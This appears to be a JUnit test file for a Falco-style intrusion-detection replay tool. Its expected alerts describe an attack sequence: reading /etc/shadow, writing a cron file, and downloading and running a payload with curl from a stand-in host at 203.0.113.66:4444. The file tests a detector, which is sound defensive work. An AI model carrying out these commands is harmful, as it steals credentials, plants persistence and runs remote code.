package dev.saker.app;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What {@code replay} and {@code run} make of the example. */
class ReplayTest {
  private static final Path EXAMPLES = Path.of(System.getProperty("saker.root"), "examples");
  private static final Path CAPTURE = EXAMPLES.resolve("intrusion.scap");
  private static final Path RULES = EXAMPLES.resolve("rules.yaml");

  private static final String ALERTS =
      """
      09:12:02.742500075: Notice Shell over ssh | user=deploy shell=bash terminal=34816 process=2103
      09:12:15.766300117: Warning Password file read | file=/etc/shadow by=cat /etc/shadow user=root parent=bash
      09:12:22.205400186: Error File written below /etc | file=/etc/cron.d/sync by=tee /etc/cron.d/sync user=root parents=bash,sudo
      09:12:34.215600204: Notice Terminal in a container | container=shop-web image=registry.example/shop/web shell=sh
      09:12:37.220700213: Error Package manager in a container | container=shop-web command=apt-get install -y curl
      09:12:42.234300237: Critical Program that was not in the image | container=shop-web program=/usr/bin/curl command=curl -o /tmp/.sync 203.0.113.66:4444
      09:12:42.237700243: Warning Connection to an unusual port from a container | container=shop-web to=203.0.113.66:4444 by=/usr/bin/curl
      09:12:44.253000270: Critical Program that was not in the image | container=shop-web program=/tmp/.sync command=.sync
      09:12:44.256400276: Warning Connection to an unusual port from a container | container=shop-web to=203.0.113.66:4444 by=/tmp/.sync
      """;

  private static final String SUMMARY =
      """
      Events detected: 9
      Rule counts by severity:
         CRITICAL: 2
         ERROR: 2
         WARNING: 3
         NOTICE: 2
      Triggered rules by rule name:
         Shell over ssh: 1
         Password file read: 1
         File written below /etc: 1
         Terminal in a container: 1
         Package manager in a container: 1
         Program that was not in the image: 2
         Connection to an unusual port from a container: 2
      """;

  @TempDir Path folder;

  @Test
  void alertsAndSummaryGoToStandardOutput() {
    assertEquals(
        new Cli.Outcome(0, ALERTS + SUMMARY, "events processed: 110\n"),
        new Cli().run("replay", CAPTURE, "-r", RULES));
  }

  @Test
  void runReplaysWhatTheConfigurationNames() throws IOException {
    Path config =
        Files.writeString(
            folder.resolve("falco.yaml"),
            "rules_files: " + RULES + "\nwatch_config_files: false\n");
    assertEquals(
        new Cli.Outcome(0, ALERTS + SUMMARY, "events processed: 110\n"),
        new Cli()
            .run(
                "run",
                "-c",
                config,
                "-o",
                "engine.kind=replay",
                "-o",
                "engine.replay.capture_file=" + CAPTURE));
  }

  @Test
  void jsonLinesHaveEveryField() {
    Cli.Outcome outcome = new Cli().run("replay", CAPTURE, "-r", RULES, "-o", "json_output=true");
    assertEquals(
        "{\"hostname\":\"probe\",\"output\":\"09:12:02.742500075: Notice Shell over ssh | user=deploy"
            + " shell=bash terminal=34816 process=2103\",\"output_fields\":{\"evt.time\":"
            + "1777885922742500075,\"proc.name\":\"bash\",\"proc.pid\":2103,\"proc.tty\":34816,"
            + "\"user.name\":\"deploy\"},\"priority\":\"Notice\",\"rule\":\"Shell over ssh\","
            + "\"source\":\"syscall\",\"tags\":[\"access\"],"
            + "\"time\":\"2026-05-04T09:12:02.742500075Z\"}",
        firstLine(outcome.out()));
  }

  @Test
  void timesAreLocalInTextAndMayBeIso() {
    Cli.Outcome local = new Cli().zone("Europe/Berlin").run("replay", CAPTURE, "-r", RULES);
    assertTrue(local.out().startsWith("11:12:02.742500075: Notice"), local.out());
    Cli.Outcome iso =
        new Cli()
            .zone("Europe/Berlin")
            .run("replay", CAPTURE, "-r", RULES, "-o", "time_format_iso_8601=true");
    assertTrue(iso.out().startsWith("2026-05-04T09:12:02.742500075+0000: Notice"), iso.out());
  }

  @Test
  void priorityAndSelectionNarrowTheRules() {
    Cli.Outcome outcome =
        new Cli()
            .run(
                "replay",
                CAPTURE,
                "-r",
                RULES,
                "-o",
                "priority=error",
                "-o",
                "rules[].disable.rule=*",
                "-o",
                "rules[].enable.tag=persistence",
                "-o",
                "rules[].enable.tag=access");
    assertEquals(List.of("File written below /etc"), triggered(outcome.out()));
  }

  @Test
  void capturesAreReplayedOneAfterTheOther() {
    Cli.Outcome outcome = new Cli().run("replay", CAPTURE, CAPTURE, "-r", RULES);
    assertTrue(outcome.out().startsWith(ALERTS + ALERTS + "Events detected: 18\n"));
    assertEquals("events processed: 220\n", outcome.err());
  }

  @Test
  void durationCountsInTheTimeOfTheEvents() {
    Cli.Outcome outcome = new Cli().run("replay", CAPTURE, "-r", RULES, "-M", "16");
    assertEquals(List.of("Shell over ssh", "Password file read"), triggered(outcome.out()));
  }

  @Test
  void dryRunReadsNoEvents() {
    assertEquals(
        new Cli.Outcome(0, "", ""),
        new Cli().run("replay", folder.resolve("none.scap"), "-r", RULES, "--dry-run"));
  }

  @Test
  void alertsMayGoToFileInstead() throws IOException {
    Path file = folder.resolve("alerts.txt");
    Cli.Outcome outcome =
        new Cli()
            .run(
                "replay",
                CAPTURE,
                "-r",
                RULES,
                "-o",
                "stdout_output.enabled=false",
                "-o",
                "file_output={enabled: true, keep_alive: true, filename: " + file + "}");
    assertEquals(SUMMARY, outcome.out());
    assertEquals(ALERTS, Files.readString(file));
  }

  @Test
  void fileThatCanNotBeWrittenIsToldAndCounted() {
    Path file = folder.resolve("no/such/alerts.txt");
    Cli.Outcome outcome =
        new Cli()
            .run(
                "replay",
                CAPTURE,
                "-r",
                RULES,
                "-o",
                "file_output={enabled: true, filename: " + file + "}");
    assertEquals(1, outcome.status());
    assertEquals(ALERTS + SUMMARY, outcome.out());
    assertEquals(
        "Error: output failed: output=file lost=1: can not write file="
            + file
            + ": no such directory\n"
            + "Error: output failed: output=file times=8 lost=8: can not write file="
            + file
            + ": no such directory\n"
            + "events processed: 110\n"
            + "Error: alerts not delivered: output=file alerts=9: can not write file="
            + file
            + ": no such directory\n",
        outcome.err());
  }

  @Test
  void textIsAddedToEachOutput() {
    Cli.Outcome outcome = new Cli().run("replay", CAPTURE, "-r", RULES, "-p", "pid=%proc.pid");
    assertTrue(firstLine(outcome.out()).endsWith("process=2103 pid=2103"), outcome.out());
    Cli.Outcome suggested =
        new Cli()
            .run(
                "replay",
                CAPTURE,
                "-r",
                RULES,
                "-pc",
                "-o",
                "append_output[].suggested_output=true");
    assertTrue(
        firstLine(suggested.out()).contains("process=2103 container_id=host container_name=host "),
        suggested.out());
    Cli.Outcome container = new Cli().run("replay", CAPTURE, "-r", RULES, "-pc");
    assertTrue(firstLine(container.out()).endsWith("process=2103"), container.out());
  }

  @Test
  void truncatedCaptureGivesItsAlertsThenTheError() throws IOException {
    byte[] bytes = Files.readAllBytes(CAPTURE);
    Path cut = Files.write(folder.resolve("cut.scap"), Arrays.copyOf(bytes, bytes.length / 2));
    Cli.Outcome outcome = new Cli().run("replay", cut, "-r", RULES);
    assertEquals(1, outcome.status());
    assertTrue(outcome.out().startsWith(ALERTS.substring(0, ALERTS.indexOf('\n') + 1)));
    assertTrue(outcome.out().contains("Events detected: "), outcome.out());
    assertTrue(outcome.err().contains("\nError: "), outcome.err());
    assertTrue(outcome.err().contains("file=" + cut), outcome.err());
    assertTrue(outcome.err().contains("offset="), outcome.err());
  }

  @Test
  void processIdIsGoneAtTheEnd() throws IOException {
    Path file = Files.writeString(folder.resolve("pid"), "of an earlier run");
    assertEquals(0, new Cli().run("replay", CAPTURE, "-r", RULES, "-P", file).status());
    assertFalse(Files.exists(file));
  }

  @Test
  void folderOfRulesIsReadByName() throws IOException {
    Files.copy(RULES, folder.resolve("a.yaml"));
    Files.writeString(
        folder.resolve("b.yml"),
        "- rule: Shell over ssh\n  enabled: false\n  override: {enabled: replace}\n");
    Files.writeString(folder.resolve("c.txt"), "not rules");
    Cli.Outcome outcome = new Cli().run("replay", CAPTURE, "-r", folder);
    assertEquals(0, outcome.status(), outcome.err());
    assertTrue(!triggered(outcome.out()).contains("Shell over ssh"), outcome.out());
  }

  private static String firstLine(String text) {
    return text.substring(0, text.indexOf('\n'));
  }

  private static List<String> triggered(String out) {
    String rules = out.substring(out.indexOf("Triggered rules by rule name:\n"));
    return rules.lines().skip(1).map(line -> line.substring(3, line.lastIndexOf(':'))).toList();
  }
}
